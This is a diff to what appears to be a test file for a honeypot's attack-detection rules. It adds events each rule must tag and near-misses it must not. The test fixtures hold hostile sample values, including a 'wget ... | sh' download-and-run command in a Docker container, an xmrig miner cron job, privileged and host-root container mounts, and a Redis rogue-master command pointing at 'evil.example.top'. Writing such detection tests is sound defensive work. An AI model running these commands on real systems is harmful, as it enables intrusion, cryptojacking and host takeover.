@@ -5,6 +5,17 @@ import { TECHNIQUE_RULES } from '../../src/intel/rules/techniques.ts'
 import type { IntelEvent } from '../../src/intel/types.ts'
 import { event, httpRequest, shellCommand } from './events.ts'
 
+const dockerCreate = (fields: Record<string, unknown>) =>
+  event('request', 'docker_api', {
+    method: 'POST',
+    path: '/containers/create',
+    action: 'container_create',
+    image: 'alpine',
+    cmd: 'null',
+    binds: 'null',
+    privileged: false,
+    ...fields,
+  })
 const redis = (cmd: string, args: string[]) => event('command', 'redis', { cmd, args: JSON.stringify(args) })
 
 /** Per rule: events it must tag and near-misses it must not. */
@@ -49,6 +60,18 @@ const CASES: Record<string, { match: IntelEvent[]; miss: IntelEvent[] }> = {
       shellCommand('cp x /etc/cron.hourly/'),
     ],
     miss: [shellCommand('cat /etc/hosts'), shellCommand('echo cronos')],
+  },
+  'technique.cron.cron-job': {
+    // As the decoy shell records `(crontab -l; echo JOB) | crontab -`
+    match: [
+      event('cron_job', 'ssh', {
+        username: 'root',
+        via: 'crontab',
+        source: 'stdin',
+        jobs: '@reboot /tmp/.x/run',
+      }),
+    ],
+    miss: [event('cron_job', 'ssh', { username: 'root', via: 'crontab', source: 'stdin', jobs: '' })],
   },
   'technique.cron.redis-dir': {
     match: [redis('CONFIG', ['SET', 'dir', '/var/spool/cron/'])],
@@ -166,6 +189,15 @@ const CASES: Record<string, { match: IntelEvent[]; miss: IntelEvent[] }> = {
     ],
     miss: [shellCommand('./backup.sh'), shellCommand('cat miner-notes.txt')],
   },
+  'technique.resource-hijacking.miner-cron': {
+    match: [
+      event('cron_job', 'ssh', {
+        via: 'crontab',
+        jobs: '* * * * * /tmp/.x/xmrig -o stratum+tcp://10.0.0.9:3333',
+      }),
+    ],
+    miss: [event('cron_job', 'ssh', { via: 'crontab', jobs: '0 3 * * * /usr/local/bin/backup.sh' })],
+  },
   'technique.resource-hijacking.miner-download': {
     match: [event('download', 'ssh', { url: 'http://10.0.0.9/xmrig', sha256: 'a'.repeat(64) })],
     miss: [event('download', 'ssh', { url: 'http://10.0.0.9/backup.tar', sha256: 'a'.repeat(64) })],
@@ -176,6 +208,25 @@ const CASES: Record<string, { match: IntelEvent[]; miss: IntelEvent[] }> = {
       event('upload', 'ssh', { via: 'scp', name: 'cpuminer', filename: 'cpuminer', bytes: 5 }),
     ],
     miss: [event('download', 'ssh', { url: 'http://10.0.0.9/a', filename: 'backup.tar' })],
+  },
+  'technique.container.deploy': {
+    match: [dockerCreate({ image: 'alpine', cmd: '["sh","-c","wget http://198.51.100.4/x|sh"]' })],
+    miss: [event('request', 'docker_api', { method: 'GET', path: '/version', action: null })],
+  },
+  'technique.container.escape-privileged': {
+    match: [dockerCreate({ image: 'alpine', privileged: true })],
+    miss: [dockerCreate({ image: 'alpine', privileged: false })],
+  },
+  'technique.container.escape-host-mount': {
+    match: [
+      dockerCreate({ binds: '["/:/mnt"]' }),
+      dockerCreate({ binds: '["/var/run/docker.sock:/var/run/docker.sock"]' }),
+    ],
+    miss: [dockerCreate({ binds: '["/srv/data:/data"]' }), dockerCreate({ binds: 'null' })],
+  },
+  'technique.ingress.redis-rogue-master': {
+    match: [redis('SLAVEOF', ['198.51.100.4', '21000']), redis('REPLICAOF', ['evil.example.top', '6379'])],
+    miss: [redis('SLAVEOF', ['NO', 'ONE']), redis('INFO', ['replication'])],
   },
   'technique.scanning.probe': {
     match: [event('scan', 'http', { reason: 'malformed_http', error: 'bad_request_line' })],
